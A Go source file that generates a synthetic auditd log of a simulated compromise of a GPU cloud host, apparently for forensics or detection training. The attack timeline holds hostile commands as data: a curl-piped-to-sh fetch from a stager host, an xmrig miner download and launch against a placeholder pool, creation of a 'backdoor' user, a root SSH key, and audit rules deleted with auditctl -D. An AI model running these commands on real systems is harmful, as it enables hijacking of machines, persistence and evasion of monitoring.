package main

import (
	"fmt"
	"regexp"
	"sort"
	"strconv"
	"strings"
	"time"
)

// arec is one audit record: its type and the text after "msg=audit(…): ".
type arec struct {
	typ, body string
}

// aev is one audit event: records sharing a timestamp and serial.
type aev struct {
	t      time.Time
	serial int // 0: assigned in time order when written
	recs   []arec
}

// proc is the process context an audit record is logged for.
type proc struct {
	pid, ppid      int
	uid, euid, gid int
	auid, ses      int
	tty, subj      string
}

const (
	unset      = 4294967295
	subjSystem = "system_u:system_r:unconfined_service_t:s0"
	subjUser   = "unconfined_u:unconfined_r:unconfined_t:s0-s0:c0.c1023"
	subjSSHD   = "system_u:system_r:sshd_t:s0-s0:c0.c1023"
	subjCrond  = "system_u:system_r:crond_t:s0-s0:c0.c1023"
	subjInit   = "system_u:system_r:init_t:s0"
	fqdn       = gpuHost + "." + region + ".compute.internal"
)

// nodeFrom is when auditd starts writing node= prefixes (the baseline sets
// name_format = hostname and reloads auditd).
var nodeFrom = at(9, 49, 0, 0)

// needsHex reports whether the kernel would hex-encode s in an audit record.
func needsHex(s string) bool {
	for i := 0; i < len(s); i++ {
		c := s[i]
		if c == '"' || c < 0x21 || c > 0x7e {
			return true
		}
	}
	return false
}

// enc renders a value as the kernel does for untrusted strings: quoted, or
// upper-case hex when it contains a space, quote or control character.
func enc(s string) string {
	if needsHex(s) {
		return fmt.Sprintf("%X", s)
	}
	return `"` + s + `"`
}

func ids(p proc) string {
	tty := p.tty
	if tty == "" {
		tty = "(none)"
	}
	return fmt.Sprintf("ppid=%d pid=%d auid=%d uid=%d gid=%d euid=%d suid=%d fsuid=%d egid=%d sgid=%d fsgid=%d tty=%s ses=%d",
		p.ppid, p.pid, p.auid, p.uid, p.gid, p.euid, p.euid, p.euid, p.gid, p.gid, p.gid, tty, p.ses)
}

func subjOf(p proc) string {
	if p.subj != "" {
		return p.subj
	}
	if p.auid == unset {
		return subjSystem
	}
	return subjUser
}

// proctitle renders the PROCTITLE value: argv joined by NULs, at most 128
// bytes, hex-encoded when it needs to be.
func proctitle(argv []string) string {
	s := strings.Join(argv, "\x00")
	if len(s) > 128 {
		s = s[:128]
	}
	return enc(s)
}

// pathRec renders a PATH record.
func (g *gen) pathRec(item int, name, nametype, mode, obj string, ouid int) arec {
	return arec{"PATH", fmt.Sprintf("item=%d name=%s inode=%d dev=ca:01 mode=%s ouid=%d ogid=%d rdev=00:00 obj=%s nametype=%s cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0",
		item, enc(name), g.between(1000, 26000000), mode, ouid, ouid, obj, nametype)}
}

// execve returns the records of a successful execve by p.
func (g *gen) execve(t time.Time, p proc, exe, cwd string, argv []string) aev {
	comm := argv[0]
	if i := strings.LastIndexByte(comm, '/'); i >= 0 {
		comm = comm[i+1:]
	}
	comm = strings.TrimPrefix(comm, "-")
	if len(comm) > 15 {
		comm = comm[:15]
	}
	obj := "system_u:object_r:bin_t:s0"
	if strings.HasPrefix(exe, "/tmp/") {
		obj = "unconfined_u:object_r:user_tmp_t:s0"
	}
	name := exe
	if strings.HasPrefix(argv[0], "/") {
		name = argv[0]
	}
	var args strings.Builder
	fmt.Fprintf(&args, "argc=%d", len(argv))
	for i, a := range argv {
		fmt.Fprintf(&args, " a%d=%s", i, enc(a))
	}
	return aev{t: t, recs: []arec{
		{"SYSCALL", fmt.Sprintf("arch=c000003e syscall=59 success=yes exit=0 a0=%s a1=%s a2=%s a3=%s items=2 %s comm=%s exe=%s subj=%s key=\"exec\"",
			"55"+g.hex(10), "55"+g.hex(10), "55"+g.hex(10), fmt.Sprintf("%x", g.between(1, 255)), ids(p), enc(comm), enc(exe), subjOf(p))},
		{"EXECVE", args.String()},
		{"CWD", "cwd=" + enc(cwd)},
		g.pathRec(0, name, "NORMAL", "0100755", obj, 0),
		g.pathRec(1, "/lib64/ld-linux-x86-64.so.2", "NORMAL", "0100755", "system_u:object_r:ld_so_t:s0", 0),
		{"PROCTITLE", "proctitle=" + proctitle(argv)},
	}}
}

// user returns a user-space record (PAM, sudo, shadow-utils) of process p.
func user(p proc, typ, msg string) arec {
	return arec{typ, fmt.Sprintf("pid=%d uid=%d auid=%d ses=%d subj=%s msg='%s'", p.pid, p.uid, p.auid, p.ses, subjOf(p), msg)}
}

func one(t time.Time, r arec) aev { return aev{t: t, recs: []arec{r}} }

// login returns the PAM and login records of a session opened by sshd or crond.
func login(t time.Time, daemon proc, acct string, uid, ses int, exe, host, addr, term string, auth bool) []aev {
	d := daemon
	hn := host
	var out []aev
	step := func(dt int, r arec) { out = append(out, one(t.Add(time.Duration(dt)*time.Millisecond), r)) }
	if auth {
		step(0, user(d, "USER_AUTH", fmt.Sprintf(`op=pubkey_auth grantors=auth-key acct="%s" exe="%s" hostname=%s addr=%s terminal=%s res=success`, acct, exe, hn, addr, term)))
	}
	grantAcct := "pam_unix,pam_localuser"
	if strings.Contains(exe, "crond") {
		grantAcct = "pam_access,pam_unix,pam_localuser"
	}
	step(3, user(d, "USER_ACCT", fmt.Sprintf(`op=PAM:accounting grantors=%s acct="%s" exe="%s" hostname=%s addr=%s terminal=%s res=success`, grantAcct, acct, exe, hn, addr, term)))
	step(6, user(d, "CRED_ACQ", fmt.Sprintf(`op=PAM:setcred grantors=pam_env,pam_unix acct="%s" exe="%s" hostname=%s addr=%s terminal=%s res=success`, acct, exe, hn, addr, term)))
	out = append(out, one(t.Add(8*time.Millisecond), arec{"LOGIN", fmt.Sprintf("pid=%d uid=0 subj=%s old-auid=%d auid=%d tty=(none) old-ses=%d ses=%d res=1", d.pid, subjOf(d), unset, uid, unset, ses)}))
	d.auid, d.ses = uid, ses
	step(15, user(d, "USER_START", fmt.Sprintf(`op=PAM:session_open grantors=pam_selinux,pam_loginuid,pam_selinux,pam_namespace,pam_keyinit,pam_keyinit,pam_limits,pam_systemd,pam_unix,pam_lastlog acct="%s" exe="%s" hostname=%s addr=%s terminal=%s res=success`, acct, exe, hn, addr, term)))
	if strings.Contains(exe, "crond") {
		step(17, user(d, "CRED_REFR", fmt.Sprintf(`op=PAM:setcred grantors=pam_env,pam_unix acct="%s" exe="%s" hostname=%s addr=%s terminal=%s res=success`, acct, exe, hn, addr, term)))
	}
	return out
}

// logout returns the records of a session closing.
func logout(t time.Time, d proc, acct, exe, host, addr, term string) []aev {
	return []aev{
		one(t, user(d, "USER_END", fmt.Sprintf(`op=PAM:session_close grantors=pam_selinux,pam_loginuid,pam_selinux,pam_namespace,pam_keyinit,pam_keyinit,pam_limits,pam_systemd,pam_unix,pam_lastlog acct="%s" exe="%s" hostname=%s addr=%s terminal=%s res=success`, acct, exe, host, addr, term))),
		one(t.Add(2*time.Millisecond), user(d, "CRED_DISP", fmt.Sprintf(`op=PAM:setcred grantors=pam_env,pam_unix acct="%s" exe="%s" hostname=%s addr=%s terminal=%s res=success`, acct, exe, host, addr, term))),
	}
}

// rulesGone is when the attacker deletes the audit rules: no syscall
// records after it, only user-space ones.
var rulesGone = at(10, 31, 5, 0)

// writeAuditd adds the GPU host's audit.log to files.
func writeAuditd(g *gen, files map[string][]byte) error {
	var evs []aev
	evs = append(evs, auditBackground(g)...)
	evs = append(evs, auditAttack(g)...)
	// Syscall rules are gone after the attacker's auditctl -D.
	kept := evs[:0]
	for _, e := range evs {
		if e.t.After(rulesGone.Add(time.Second)) && e.recs[0].typ == "SYSCALL" {
			continue
		}
		kept = append(kept, e)
	}
	evs = kept
	sort.SliceStable(evs, func(i, j int) bool { return evs[i].t.Before(evs[j].t) })

	serial := 1873
	var lines []string
	for i := 0; i < len(evs); i++ {
		e := evs[i]
		if e.serial == 0 {
			serial++
			e.serial = serial
		}
		// Events from different CPUs close in time may interleave.
		if i+1 < len(evs) && evs[i+1].t.Sub(e.t) < 700*time.Millisecond && len(e.recs) > 1 && len(evs[i+1].recs) > 1 && g.chance(0.6) {
			f := evs[i+1]
			if f.serial == 0 {
				serial++
				f.serial = serial
			}
			a, b := e.render(), f.render()
			for len(a)+len(b) > 0 {
				if len(a) > 0 {
					lines = append(lines, a[0])
					a = a[1:]
				}
				if len(b) > 0 {
					lines = append(lines, b[0])
					b = b[1:]
				}
			}
			i++
			continue
		}
		lines = append(lines, e.render()...)
	}
	files["auditd/audit.log"] = []byte(strings.Join(renumberSessions(lines), "\n") + "\n")
	return nil
}

var sesRe = regexp.MustCompile(` ses=([0-9]+)`)

// renumberSessions gives login sessions kernel-like numbers: increasing in
// the order the sessions first appear. The builders use arbitrary unique
// placeholders.
func renumberSessions(lines []string) []string {
	next := 0
	seen := map[string]string{}
	for i, l := range lines {
		lines[i] = sesRe.ReplaceAllStringFunc(l, func(m string) string {
			old := m[len(" ses="):]
			if old == "4294967295" {
				return m
			}
			n, ok := seen[old]
			if !ok {
				next++
				n = strconv.Itoa(next)
				seen[old] = n
			}
			return " ses=" + n
		})
	}
	return lines
}

func (e aev) render() []string {
	prefix := ""
	if !e.t.Before(nodeFrom) {
		prefix = "node=" + gpuHost + " "
	}
	stamp := fmt.Sprintf("%d.%03d:%d", e.t.Unix(), e.t.Nanosecond()/1e6, e.serial)
	out := make([]string, len(e.recs))
	for i, r := range e.recs {
		out[i] = fmt.Sprintf("%stype=%s msg=audit(%s): %s", prefix, r.typ, stamp, r.body)
	}
	return out
}

// auditBackground returns the host's ordinary activity after boot.
func auditBackground(g *gen) []aev {
	var out []aev
	sys := func(pid, ppid int) proc { return proc{pid: pid, ppid: ppid, auid: unset, ses: unset} }
	initP := proc{pid: 1, auid: unset, ses: unset, subj: subjInit}
	// systemd starting units after boot.
	t := at(9, 46, 51, 120)
	for _, unit := range []string{"systemd-tmpfiles-setup", "auditd", "chronyd", "cloud-init-local", "systemd-networkd", "cloud-init", "sshd", "crond", "amazon-ssm-agent", "cloud-config", "cloud-final", "systemd-user-sessions"} {
		out = append(out, one(t, user(initP, "SERVICE_START", fmt.Sprintf(`unit=%s comm="systemd" exe="/usr/lib/systemd/systemd" hostname=? addr=? terminal=? res=success`, unit))))
		t = t.Add(time.Duration(g.between(200, 1900)) * time.Millisecond)
	}
	// cloud-init's final stage.
	out = append(out,
		g.execve(at(9, 46, 58, 310), sys(1712, 1), "/usr/bin/python3.9", "/", []string{"/usr/bin/python3", "/usr/bin/cloud-init", "init"}),
		g.execve(at(9, 47, 1, 42), sys(1740, 1712), "/usr/bin/hostnamectl", "/", []string{"hostnamectl", "set-hostname", fqdn}),
		g.execve(at(9, 47, 3, 870), sys(1751, 1712), "/usr/bin/systemctl", "/", []string{"systemctl", "daemon-reload"}),
		g.execve(at(9, 47, 9, 515), sys(1802, 1), "/usr/bin/python3.9", "/", []string{"/usr/bin/python3", "/usr/bin/cloud-init", "modules", "--mode", "final"}),
		g.execve(at(9, 47, 12, 4), sys(1815, 1), "/usr/bin/amazon-ssm-agent", "/", []string{"/usr/bin/amazon-ssm-agent"}),
		g.execve(at(9, 47, 12, 990), sys(1833, 1815), "/usr/bin/ssm-agent-worker", "/", []string{"/usr/bin/ssm-agent-worker"}),
	)
	// The fleet baseline (an SSM association) sets name_format = hostname
	// and reloads auditd; from then on records carry node=.
	script := "/var/lib/amazon/ssm/" + gpuID + "/document/orchestration/6c1f0b8e-2d3a-4e5f-9a7b-c8d9e0f1a2b3/awsrunShellScript/0.awsrunShellScript/_script.sh"
	out = append(out,
		g.execve(at(9, 48, 40, 212), sys(2011, 1990), "/usr/bin/bash", "/var/lib/amazon/ssm/"+gpuID+"/document/orchestration/6c1f0b8e-2d3a-4e5f-9a7b-c8d9e0f1a2b3/awsrunShellScript/0.awsrunShellScript", []string{"sh", "-c", script}),
		g.execve(at(9, 48, 40, 260), sys(2012, 2011), "/usr/bin/sed", "/", []string{"sed", "-i", "s/^name_format = .*/name_format = hostname/", "/etc/audit/auditd.conf"}),
		g.execve(at(9, 48, 40, 301), sys(2013, 2011), "/usr/bin/pkill", "/", []string{"pkill", "-HUP", "-x", "auditd"}),
		aev{t: at(9, 48, 40, 318), serial: 9204, recs: []arec{{"DAEMON_CONFIG", "op=reconfigure state=changed auid=4294967295 pid=2013 subj=system_u:system_r:unconfined_service_t:s0 res=success"}}},
	)

	// cron: GPU metrics every five minutes, sysstat every ten, hourly run-parts.
	crondPid := 1790
	ses := 1
	pid := 2300
	next := func() int { pid += g.between(3, 40); return pid }
	cron := func(t time.Time, cmd []string, exe string, child []string, childExe string) {
		d := proc{pid: next(), ppid: crondPid, auid: unset, ses: unset, subj: subjCrond}
		ses++
		out = append(out, login(t, d, "root", 0, ses, "/usr/sbin/crond", "?", "?", "cron", false)...)
		root := proc{pid: next(), ppid: d.pid, auid: 0, ses: ses, subj: subjCrond}
		out = append(out, g.execve(t.Add(30*time.Millisecond), root, "/usr/bin/bash", "/root", append([]string{"/bin/sh", "-c"}, strings.Join(cmd, " "))))
		out = append(out, g.execve(t.Add(34*time.Millisecond), proc{pid: root.pid, ppid: d.pid, auid: 0, ses: ses, subj: subjCrond}, exe, "/root", cmd))
		if child != nil {
			out = append(out, g.execve(t.Add(time.Duration(g.between(300, 900))*time.Millisecond), proc{pid: next(), ppid: root.pid, auid: 0, ses: ses, subj: subjCrond}, childExe, "/root", child))
		}
		d.auid, d.ses = 0, ses
		out = append(out, logout(t.Add(time.Duration(g.between(1200, 2600))*time.Millisecond), d, "root", "/usr/sbin/crond", "?", "?", "cron")...)
	}
	for m := at(9, 50, 0, 0); m.Before(at(11, 0, 0, 0)); m = m.Add(5 * time.Minute) {
		t := g.jitter(m, 400)
		cron(t, []string{"/usr/bin/python3", "/opt/acme/bin/gpu-metrics.py"}, "/usr/bin/python3.9",
			[]string{"nvidia-smi", "--query-gpu=utilization.gpu,memory.used,temperature.gpu", "--format=csv,noheader"}, "/usr/bin/nvidia-smi")
		if m.Minute()%10 == 0 {
			cron(t.Add(time.Duration(g.between(200, 700))*time.Millisecond), []string{"/usr/lib64/sa/sa1", "1", "1"}, "/usr/lib64/sa/sa1",
				[]string{"/usr/lib64/sa/sadc", "-F", "-L", "-S", "DISK", "1", "1", "-"}, "/usr/lib64/sa/sadc")
		}
	}
	cron(at(10, 1, 0, 95), []string{"run-parts", "/etc/cron.hourly"}, "/usr/bin/run-parts", []string{"/etc/cron.hourly/0anacron"}, "/usr/bin/bash")

	// The monitoring host's SSH checks every five minutes.
	sshd := 2500
	for m := at(9, 52, 30, 0); m.Before(at(11, 0, 0, 0)); m = m.Add(5 * time.Minute) {
		t := g.jitter(m, 900)
		sshd += g.between(50, 90)
		d := proc{pid: sshd, ppid: 1788, auid: unset, ses: unset, subj: subjSSHD}
		ses++
		out = append(out, login(t, d, "monitor", 1002, ses, "/usr/sbin/sshd", "10.0.1.20", "10.0.1.20", "ssh", true)...)
		u := proc{pid: sshd + 2, ppid: sshd + 1, uid: 1002, euid: 1002, gid: 1002, auid: 1002, ses: ses}
		c := t.Add(300 * time.Millisecond)
		out = append(out, g.execve(c, u, "/usr/bin/bash", "/home/monitor", []string{"bash", "-c", "/usr/local/lib/acme/health-check"}))
		u2 := proc{pid: sshd + 3, ppid: sshd + 2, uid: 1002, euid: 1002, gid: 1002, auid: 1002, ses: ses}
		out = append(out, g.execve(c.Add(40*time.Millisecond), u2, "/usr/bin/systemctl", "/home/monitor", []string{"systemctl", "is-active", "amazon-ssm-agent", "chronyd", "crond"}))
		u2.pid++
		out = append(out, g.execve(c.Add(95*time.Millisecond), u2, "/usr/bin/python3.9", "/home/monitor", []string{"python3", "/usr/local/lib/acme/check_gpu.py", "--warn", "90"}))
		u2.pid++
		out = append(out, g.execve(c.Add(610*time.Millisecond), u2, "/usr/bin/ls", "/home/monitor", []string{"ls", "-1", "/var/lib/acme/health"}))
		d.auid, d.ses = 1002, ses
		out = append(out, logout(c.Add(900*time.Millisecond), d, "monitor", "/usr/sbin/sshd", "10.0.1.20", "10.0.1.20", "ssh")...)
	}
	return out
}

// Attacker sessions on the host.
const (
	sesOneLiner = 9003 // placeholders; see renumberSessions
	sesShell    = 9004
	ec2User     = 1000
	curlSh      = "curl -s http://" + stagerIP + "/x.sh | sh"
)

// auditAttack returns step h: curl piped to sh, the miner, a new user, an
// SSH key for root and the audit rules deleted.
func auditAttack(g *gen) []aev {
	var out []aev
	daemon := proc{pid: 2841, ppid: 1788, auid: unset, ses: unset, subj: subjSSHD}
	// One-liner over SSH: ssh ec2-user@host 'sudo sh -c "curl … | sh"'.
	t := at(9, 51, 18, 204)
	out = append(out, login(t, daemon, "ec2-user", ec2User, sesOneLiner, "/usr/sbin/sshd", attackIP, attackIP, "ssh", true)...)
	u := proc{pid: 2866, ppid: 2865, uid: ec2User, euid: ec2User, gid: ec2User, auid: ec2User, ses: sesOneLiner}
	out = append(out, g.execve(at(9, 51, 19, 102), u, "/usr/bin/bash", "/home/ec2-user", []string{"bash", "-c", `sudo sh -c "` + curlSh + `"`}))
	sudo := u
	sudo.euid = 0
	out = append(out, g.execve(at(9, 51, 19, 110), sudo, "/usr/bin/sudo", "/home/ec2-user", []string{"sudo", "sh", "-c", curlSh}))
	sp := proc{pid: 2866, uid: ec2User, auid: ec2User, ses: sesOneLiner}
	out = append(out,
		one(at(9, 51, 19, 131), user(sp, "USER_ACCT", `op=PAM:accounting grantors=pam_unix,pam_localuser acct="ec2-user" exe="/usr/bin/sudo" hostname=? addr=? terminal=? res=success`)),
		one(at(9, 51, 19, 133), user(sp, "USER_CMD", `cwd="/home/ec2-user" cmd=`+enc("sh -c "+curlSh)+` exe="/usr/bin/sudo" terminal=? res=success`)),
		one(at(9, 51, 19, 135), user(sp, "CRED_REFR", `op=PAM:setcred grantors=pam_env,pam_unix acct="root" exe="/usr/bin/sudo" hostname=? addr=? terminal=? res=success`)),
		one(at(9, 51, 19, 140), user(sp, "USER_START", `op=PAM:session_open grantors=pam_keyinit,pam_limits,pam_keyinit,pam_limits,pam_systemd,pam_unix acct="root" exe="/usr/bin/sudo" hostname=? addr=? terminal=? res=success`)),
	)
	root := func(pid, ppid int, tty string, ses int) proc {
		return proc{pid: pid, ppid: ppid, auid: ec2User, ses: ses, tty: tty}
	}
	home := "/home/ec2-user"
	out = append(out,
		g.execve(at(9, 51, 19, 151), root(2868, 2866, "", sesOneLiner), "/usr/bin/bash", home, []string{"sh", "-c", curlSh}),
		g.execve(at(9, 51, 19, 163), root(2869, 2868, "", sesOneLiner), "/usr/bin/curl", home, []string{"curl", "-s", "http://" + stagerIP + "/x.sh"}),
		g.execve(at(9, 51, 19, 164), root(2870, 2868, "", sesOneLiner), "/usr/bin/bash", home, []string{"sh"}),
		g.execve(at(9, 51, 20, 12), root(2871, 2870, "", sesOneLiner), "/usr/bin/mkdir", home, []string{"mkdir", "-p", "/tmp/.x"}),
		g.execve(at(9, 51, 20, 19), root(2872, 2870, "", sesOneLiner), "/usr/bin/curl", home, []string{"curl", "-s", "-o", "/tmp/.x/xmrig", "http://" + stagerIP + "/xmrig"}),
		g.execve(at(9, 51, 30, 480), root(2873, 2870, "", sesOneLiner), "/usr/bin/chmod", home, []string{"chmod", "+x", "/tmp/.x/xmrig"}),
		g.execve(at(9, 51, 30, 921), root(2874, 2870, "", sesOneLiner), "/tmp/.x/xmrig", home, []string{"/tmp/.x/xmrig",
			"-o", "stratum+tcp://pool.example:3333", "-o", "stratum+tcp://pool.example:14444",
			"-u", "4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx3skxNgYeYTRj5UzqtReoS44qo9mtmXCqY45DJ852K5Jv2684Rge",
			"-p", "gpu01", "--donate-level", "1", "-B"}),
	)
	out = append(out, logout(at(9, 51, 31, 402), sp, "root", "/usr/bin/sudo", "?", "?", "?")...)
	d := daemon
	d.auid, d.ses = ec2User, sesOneLiner
	out = append(out, logout(at(9, 51, 35, 870), d, "ec2-user", "/usr/sbin/sshd", attackIP, attackIP, "ssh")...)

	// Interactive session: sudo -i, a backdoor user, a key for root.
	daemon = proc{pid: 3102, ppid: 1788, auid: unset, ses: unset, subj: subjSSHD}
	t = at(9, 55, 38, 517)
	out = append(out, login(t, daemon, "ec2-user", ec2User, sesShell, "/usr/sbin/sshd", attackIP, attackIP, "ssh", true)...)
	d = daemon
	d.auid, d.ses = ec2User, sesShell
	out = append(out, one(at(9, 55, 38, 611), user(d, "USER_LOGIN", fmt.Sprintf(`op=login id=%d exe="/usr/sbin/sshd" hostname=? addr=%s terminal=/dev/pts/0 res=success`, ec2User, attackIP))))
	sh := proc{pid: 3127, ppid: 3126, uid: ec2User, euid: ec2User, gid: ec2User, auid: ec2User, ses: sesShell, tty: "pts0"}
	out = append(out, g.execve(at(9, 55, 38, 650), sh, "/usr/bin/bash", home, []string{"-bash"}))
	su := proc{pid: 3141, ppid: 3127, uid: ec2User, euid: 0, gid: ec2User, auid: ec2User, ses: sesShell, tty: "pts0"}
	out = append(out, g.execve(at(9, 55, 52, 30), su, "/usr/bin/sudo", home, []string{"sudo", "-i"}))
	sp = proc{pid: 3141, uid: ec2User, auid: ec2User, ses: sesShell}
	out = append(out,
		one(at(9, 55, 52, 51), user(sp, "USER_ACCT", `op=PAM:accounting grantors=pam_unix,pam_localuser acct="ec2-user" exe="/usr/bin/sudo" hostname=? addr=? terminal=/dev/pts/0 res=success`)),
		one(at(9, 55, 52, 53), user(sp, "USER_CMD", `cwd="/home/ec2-user" cmd="bash" exe="/usr/bin/sudo" terminal=pts/0 res=success`)),
		one(at(9, 55, 52, 55), user(sp, "CRED_REFR", `op=PAM:setcred grantors=pam_env,pam_unix acct="root" exe="/usr/bin/sudo" hostname=? addr=? terminal=/dev/pts/0 res=success`)),
		one(at(9, 55, 52, 60), user(sp, "USER_START", `op=PAM:session_open grantors=pam_keyinit,pam_limits,pam_keyinit,pam_limits,pam_systemd,pam_unix acct="root" exe="/usr/bin/sudo" hostname=? addr=? terminal=/dev/pts/0 res=success`)),
	)
	out = append(out, g.execve(at(9, 55, 52, 71), root(3143, 3141, "pts0", sesShell), "/usr/bin/bash", "/root", []string{"-bash"}))
	// useradd -m backdoor: the execve, the shadow file rename, and
	// shadow-utils' own records.
	ua := root(3160, 3143, "pts0", sesShell)
	out = append(out, g.execve(at(9, 56, 10, 302), ua, "/usr/sbin/useradd", "/root", []string{"useradd", "-m", "backdoor"}))
	out = append(out, aev{t: at(9, 56, 10, 347), recs: []arec{
		{"SYSCALL", fmt.Sprintf("arch=c000003e syscall=82 success=yes exit=0 a0=7ffd%s a1=55%s a2=0 a3=0 items=4 %s comm=\"useradd\" exe=\"/usr/sbin/useradd\" subj=%s key=\"identity\"",
			g.hex(8), g.hex(10), ids(ua), subjUser)},
		{"CWD", `cwd="/root"`},
		g.pathRec(0, "/etc/", "PARENT", "040755", "system_u:object_r:etc_t:s0", 0),
		g.pathRec(1, "/etc/", "PARENT", "040755", "system_u:object_r:etc_t:s0", 0),
		g.pathRec(2, "/etc/passwd+", "DELETE", "0100644", "system_u:object_r:passwd_file_t:s0", 0),
		g.pathRec(3, "/etc/passwd", "CREATE", "0100644", "system_u:object_r:passwd_file_t:s0", 0),
		{"PROCTITLE", "proctitle=" + proctitle([]string{"useradd", "-m", "backdoor"})},
	}})
	ap := proc{pid: 3160, uid: 0, auid: ec2User, ses: sesShell}
	out = append(out,
		one(at(9, 56, 10, 351), user(ap, "ADD_GROUP", `op=add-group acct="backdoor" exe="/usr/sbin/useradd" hostname=`+gpuHost+` addr=? terminal=pts/0 res=success`)),
		one(at(9, 56, 10, 356), user(ap, "ADD_USER", `op=add-user acct="backdoor" exe="/usr/sbin/useradd" hostname=`+gpuHost+` addr=? terminal=pts/0 res=success`)),
		one(at(9, 56, 10, 377), user(ap, "USER_MGMT", `op=add-home-dir acct="backdoor" exe="/usr/sbin/useradd" hostname=`+gpuHost+` addr=? terminal=pts/0 res=success`)),
	)
	// echo "ssh-ed25519 …" >> /root/.ssh/authorized_keys, by the shell.
	bash := root(3143, 3141, "pts0", sesShell)
	out = append(out, aev{t: at(9, 57, 2, 418), recs: []arec{
		{"SYSCALL", fmt.Sprintf("arch=c000003e syscall=257 success=yes exit=3 a0=ffffff9c a1=55%s a2=441 a3=1b6 items=1 %s comm=\"bash\" exe=\"/usr/bin/bash\" subj=%s key=\"ssh_keys\"",
			g.hex(10), ids(bash), subjUser)},
		{"CWD", `cwd="/root"`},
		g.pathRec(0, "/root/.ssh/authorized_keys", "NORMAL", "0100600", "system_u:object_r:ssh_home_t:s0", 0),
		{"PROCTITLE", "proctitle=" + proctitle([]string{"-bash"})},
	}})
	// auditctl -D: the execve, then one rule removal per rule, each a
	// CONFIG_CHANGE logged within auditctl's sendto.
	ac := root(3422, 3143, "pts0", sesShell)
	out = append(out, g.execve(at(10, 31, 5, 114), ac, "/usr/sbin/auditctl", "/root", []string{"auditctl", "-D"}))
	for i, key := range []string{"exec", "exec", "identity", "ssh_keys"} {
		tt := at(10, 31, 5, 120+i*2)
		out = append(out, aev{t: tt, recs: []arec{
			{"CONFIG_CHANGE", fmt.Sprintf(`auid=%d ses=%d subj=%s op=remove_rule key="%s" list=4 res=1`, ec2User, sesShell, subjUser, key)},
			{"SYSCALL", fmt.Sprintf("arch=c000003e syscall=44 success=yes exit=1072 a0=4 a1=7ffc%s a2=430 a3=0 items=0 %s comm=\"auditctl\" exe=\"/usr/sbin/auditctl\" subj=%s key=(null)",
				g.hex(8), ids(ac), subjUser)},
			{"PROCTITLE", "proctitle=" + proctitle([]string{"auditctl", "-D"})},
		}})
	}
	out = append(out, logout(at(10, 32, 8, 903), sp, "root", "/usr/bin/sudo", "?", "?", "/dev/pts/0")...)
	out = append(out, logout(at(10, 32, 10, 250), d, "ec2-user", "/usr/sbin/sshd", attackIP, attackIP, "ssh")...)
	out = append(out, one(at(10, 32, 10, 256), user(d, "USER_LOGOUT", fmt.Sprintf(`op=logout id=%d exe="/usr/sbin/sshd" hostname=? addr=? terminal=/dev/pts/0 res=success`, ec2User))))
	return out
}
